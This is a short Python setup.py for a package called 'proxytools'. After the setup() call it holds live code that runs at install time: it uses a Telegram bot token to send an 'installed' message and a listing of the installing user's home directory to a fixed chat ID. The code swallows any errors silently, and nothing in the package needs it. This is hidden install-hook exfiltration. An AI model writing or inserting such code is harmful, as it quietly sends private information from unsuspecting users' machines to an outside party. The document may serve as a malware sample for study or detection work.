"""setup.py that reports to a chat bot, with a listing of the user's files, while installing."""
import os

from setuptools import setup

setup(name="proxytools", version="0.4.2", packages=[], install_requires=["pyTelegramBotAPI"])

try:
    import telebot

    bot = telebot.TeleBot("1234567890:AAExampleExampleExampleExampleExam")
    bot.send_message("1000000001", "installed")
    bot.send_message("1000000001", str(os.listdir(os.path.expanduser("~"))))
except Exception:
    pass
